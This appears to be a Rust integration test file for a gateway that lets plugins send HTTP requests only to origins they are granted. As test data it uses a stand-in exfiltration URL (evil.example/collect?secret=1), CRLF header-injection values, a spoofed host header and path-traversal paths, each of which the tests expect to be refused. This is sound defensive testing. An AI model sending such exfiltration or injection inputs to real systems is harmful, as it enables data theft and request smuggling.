//! `http-client`: requests of a plugin's own, to the origins that it is granted and nowhere else.

use std::sync::Arc;
use std::time::{Duration, Instant};

use gatewright_tests::raw_client::{RawClient, request};
use gatewright_tests::{Certificates, Origin, TestProcess, eventually, full, http};
use http::Response;
use http_body_util::BodyExt as _;
use serde_json::{Value, json};
use tokio::sync::Semaphore;

use super::{GUEST, ask, ask_route, calls, config, error, files, ok};
use crate::plugins::setup::{base_with, heavy};

fn granting(url: &str, more: &str) -> String {
    config(&format!("grants = {{ http = [\"{url}\"] }}\n{more}"), "")
}

fn send(url: impl Into<Value>) -> Value {
    json!({ "call": "send", "url": url.into() })
}

fn status(answer: &Value) -> &Value {
    &answer["ok"]["status"]
}

#[test]
fn a_plugin_asks_the_origin_that_it_is_granted() {
    let origin = Origin::start(|request| async {
        let _ = request.into_body().collect().await;
        let response = Response::builder().status(404).header("x-answer", "yes");
        response.body(full("not here")).unwrap()
    });
    let gateway = files().start(&granting(&origin.url(), ""));
    let call = json!({
        "call": "send",
        "method": "POST",
        "url": format!("{}/a/../token?x=/../y", origin.url()),
        "fields": { "Authorization": "Bearer x", "content-length": "99" },
        "body": "grant",
    });
    let answer = ask(&gateway, &call);
    assert_eq!(
        (status(&answer), &answer["ok"]["body"]),
        (&json!(404), &json!("not here"))
    );
    let fields = answer["ok"]["fields"].as_array().unwrap();
    assert!(fields.contains(&json!(["x-answer", "yes"])), "{fields:?}");
    let seen = origin.requests().pop().unwrap();
    assert_eq!((seen.method.as_str(), seen.target.as_str()), ("POST", "/token?x=/../y"));
    assert_eq!(seen.body, b"grant");
    assert_eq!(seen.headers["authorization"], "Bearer x");
    assert_eq!(seen.headers["host"], origin.url().trim_start_matches("http://"));
    assert_eq!(calls(&gateway, "http", "ok"), 1.0);
}

#[test]
fn connections_are_kept_and_one_that_was_closed_meanwhile_costs_nothing() {
    let origin = Origin::saying("hello");
    let gateway = files().start(&granting(&origin.url(), ""));
    let five: Vec<Value> = (0..5).map(|_| send(origin.url())).collect();
    let answers = ask(&gateway, &json!(five));
    assert!(answers.as_array().unwrap().iter().all(|answer| *status(answer) == 200));
    assert_eq!(origin.connections(), 1);
}

#[test]
fn redirects_are_answers() {
    let origin = Origin::start(|_| async {
        let response = Response::builder()
            .status(302)
            .header("location", "http://127.0.0.1:1/");
        response.body(full("")).unwrap()
    });
    let gateway = files().start(&granting(&origin.url(), ""));
    assert_eq!(*status(&ask(&gateway, &send(origin.url()))), 302);
    assert_eq!(origin.hits(), 1);
}

#[test]
fn p13_what_is_not_granted_is_forbidden_and_named_in_the_log() {
    let origin = Origin::saying("hello");
    let config = granting(&format!("{}/v1", origin.url()), "");
    let process = TestProcess::start_in(files(), &config, &[]).unwrap();
    let ask = |url: String| {
        let call = send(url).to_string();
        http(
            process.addr("public"),
            "POST",
            &format!("/{GUEST}"),
            &[],
            call.as_bytes(),
        )
        .json()
    };
    assert_eq!(
        ask("https://evil.example:8443/collect?secret=1".to_owned()),
        error("Forbidden")
    );
    let log = eventually("a line about it", || {
        Some(process.stderr()).filter(|log| log.contains("it is not granted"))
    });
    assert!(
        log.contains("https://evil.example:8443/collect") && !log.contains("secret=1"),
        "{log}"
    );
    for path in ["", "/", "/v1secret", "/v1/../admin"] {
        assert_eq!(ask(format!("{}{path}", origin.url())), error("Forbidden"), "{path}");
    }
    assert_eq!(origin.hits(), 0);
    assert_eq!(*status(&ask(format!("{}/v1/users", origin.url()))), 200);
}

#[test]
fn a_name_may_not_stand_for_a_private_address_unless_it_is_granted_too() {
    let origin = Origin::saying("hello");
    let port = origin.url().rsplit_once(':').unwrap().1.to_owned();
    let url = format!("http://localhost:{port}");
    let gateway = files().start(&granting(&url, ""));
    assert_eq!(ask(&gateway, &send(url.as_str())), error("Forbidden"));
    assert_eq!((origin.connections(), calls(&gateway, "http", "refused")), (0, 1.0));
    let gateway = files().start(&granting(&url, "http = { allow_private = true }"));
    assert_eq!(*status(&ask(&gateway, &send(url.as_str()))), 200);
}

#[test]
fn a_request_that_is_none_is_refused_before_anything_is_sent() {
    let origin = Origin::saying("hello");
    let gateway = files().start(&granting(&origin.url(), ""));
    let with = |key: &str, value: Value| {
        let mut call = send(origin.url());
        call[key] = value;
        call
    };
    for wrong in [
        send("/"),
        send("ftp://127.0.0.1/"),
        with("method", json!("CONNECT")),
        with("method", json!("A B")),
        with("fields", json!({ "host": "evil.org" })),
        with("fields", json!({ "transfer-encoding": "chunked" })),
        with("fields", json!({ "x": "a\r\nb: c" })),
        with("url", json!(format!("{}/#a", origin.url()))),
        with("url", json!(origin.url().replace("http://", "http://u:p@"))),
    ] {
        let answer = ask(&gateway, &wrong);
        assert!(
            answer["error"].as_str().unwrap_or_default().starts_with("BadRequest"),
            "{wrong}: {answer}"
        );
    }
    assert_eq!(origin.connections(), 0);
}

#[test]
fn p13_responses_requests_and_time_are_bounded() {
    let gate = Arc::new(Semaphore::new(0));
    let waiting = Arc::clone(&gate);
    let origin = Origin::start(move |request| {
        let gate = Arc::clone(&waiting);
        async move {
            if request.uri().path() == "/slow" {
                let _ = gate.acquire().await;
            }
            Response::new(full("x".repeat(2048)))
        }
    });
    let gateway = files().start(&granting(
        &origin.url(),
        "http = { requests = 3, response_bytes = \"4KiB\" }",
    ));
    let mut small = send(origin.url());
    small["max"] = json!(1024);
    assert_eq!(ask(&gateway, &small), error("TooLarge"));
    let four: Vec<Value> = (0..4).map(|_| send(origin.url())).collect();
    let answers = ask(&gateway, &json!(four));
    assert_eq!(*status(&answers[2]), 200);
    assert!(
        answers[3]["error"].as_str().unwrap().contains("more than 3 requests"),
        "{answers}"
    );
    let mut slow = send(format!("{}/slow", origin.url()));
    slow["timeout"] = json!(50);
    assert_eq!(ask(&gateway, &slow), error("Timeout"));
    gate.close();
}

#[test]
fn p13_waiting_counts_against_the_time_of_the_call() {
    let gate = Arc::new(Semaphore::new(0));
    let waiting = Arc::clone(&gate);
    let origin = Origin::start(move |_| {
        let gate = Arc::clone(&waiting);
        async move {
            let _ = gate.acquire().await;
            Response::new(full("late"))
        }
    });
    let config = granting(&origin.url(), "").replace("time = \"10s\"", "time = \"200ms\"");
    let gateway = files().start(&config);
    let mut patient = send(origin.url());
    patient["timeout"] = json!(60_000);
    let began = Instant::now();
    let call = patient.to_string();
    let answer = http(
        gateway.addr("public"),
        "POST",
        &format!("/{GUEST}"),
        &[],
        call.as_bytes(),
    );
    assert_eq!(
        (answer.status, answer.error()),
        (504, Some("PLUGIN_TIMEOUT")),
        "{answer:?}"
    );
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
    gate.close();
}

#[test]
fn several_are_sent_at_once_up_to_the_limit_and_answered_in_order() {
    let running = Arc::new(std::sync::Mutex::new((0, 0)));
    let counting = Arc::clone(&running);
    let origin = Origin::start(move |request| {
        let counting = Arc::clone(&counting);
        async move {
            {
                let mut counts = counting.lock().unwrap();
                counts.0 += 1;
                counts.1 = counts.0.max(counts.1);
            }
            for _ in 0..100 {
                tokio::task::yield_now().await;
            }
            counting.lock().unwrap().0 -= 1;
            Response::new(full(request.uri().path().to_owned()))
        }
    });
    let gateway = files().start(&granting(&origin.url(), "http = { parallel = 3 }"));
    let requests: Vec<Value> = (0..9)
        .map(|n| json!({ "url": format!("{}/{n}", origin.url()) }))
        .collect();
    let answers = ask(&gateway, &json!({ "call": "send-all", "requests": requests }));
    let bodies: Vec<_> = answers["ok"]
        .as_array()
        .unwrap()
        .iter()
        .map(|answer| answer["body"].clone())
        .collect();
    assert_eq!(bodies, (0..9).map(|n| json!(format!("/{n}"))).collect::<Vec<_>>());
    let most = running.lock().unwrap().1;
    assert!((1..=3).contains(&most), "{most}");
    assert!(origin.connections() <= 3);
}

#[test]
fn who_answers_must_be_who_he_says() {
    let certificates = Certificates::new();
    let origin = |name| Origin::start_tls(certificates.server(name), |_| async { Response::new(full("safe")) });
    let (right, wrong) = (origin("server"), origin("wrong"));
    let url = |origin: &Origin| origin.url().replace("http://", "https://");
    let ca = format!("http = {{ ca = \"{}\" }}", certificates.path("ca.pem"));
    let gateway = files().start(&granting(&url(&right), &ca));
    assert_eq!(ask(&gateway, &send(url(&right)))["ok"]["body"], "safe");
    let gateway = files().start(&granting(&url(&wrong), &ca));
    let answer = ask(&gateway, &send(url(&wrong)));
    assert!(
        answer["error"].as_str().unwrap_or_default().starts_with("Tls"),
        "{answer}"
    );
    let missing = files().try_start(&granting(&url(&right), "http = { ca = \"gone.pem\" }"));
    let missing = missing.err().expect("the file is missing");
    assert!(missing.contains("http.ca") && missing.contains("gone.pem"), "{missing}");
}

#[test]
fn p13_a_thousand_calls_wait_on_two_threads_and_nobody_else_does() {
    const CALLS: usize = 1_000;
    let _heavy = heavy();
    let gate = Arc::new(Semaphore::new(0));
    let waiting = Arc::clone(&gate);
    let origin = Origin::start(move |_| {
        let gate = Arc::clone(&waiting);
        async move {
            let _ = gate.acquire().await;
            Response::new(full("at last"))
        }
    });
    let gateway = files().start(
        &[
            base_with("instances = 1100"),
            format!(
                "[plugin.{GUEST}]\ntime = \"25s\"\ncpu = \"5s\"\nconcurrency = {CALLS}\ngrants = {{ http = [\"{}\"] }}\n",
                origin.url()
            ),
            ask_route(GUEST),
        ]
        .concat(),
    );
    let call = request(
        "POST",
        &format!("/{GUEST}"),
        &[],
        send(origin.url()).to_string().as_bytes(),
    );
    let mut clients: Vec<_> = (0..CALLS).map(|_| RawClient::connect(gateway.addr("public"))).collect();
    clients.iter_mut().for_each(|client| _ = client.send(&call));
    eventually("all of them wait", || (origin.hits() == CALLS).then_some(()));
    let times = (0..50).map(|_| {
        let began = Instant::now();
        assert_eq!(http(gateway.addr("public"), "GET", "/neighbour", &[], b"").status, 200);
        began.elapsed()
    });
    let slowest = times.max().unwrap();
    assert!(slowest < Duration::from_millis(500), "{slowest:?}");
    gate.close();
    for client in &mut clients {
        assert_eq!(client.read_response().json()["ok"]["body"], "at last");
    }
    assert_eq!(calls(&gateway, "http", "ok"), CALLS as f64);
}

#[test]
fn what_a_plugin_is_granted_may_change_while_it_serves() {
    let (first, second) = (Origin::saying("first"), Origin::saying("second"));
    let gateway = files().start(&granting(&first.url(), ""));
    assert_eq!(ask(&gateway, &send(second.url())), error("Forbidden"));
    gateway.rewrite_config(&granting(&second.url(), ""));
    gateway.reload().unwrap();
    assert_eq!(ask(&gateway, &send(second.url()))["ok"]["body"], "second");
    assert_eq!(ask(&gateway, &send(first.url())), error("Forbidden"));
    assert_eq!(ask(&gateway, &json!([])), json!([]));
    assert_ne!(ask(&gateway, &send(second.url())), ok(Value::Null));
}
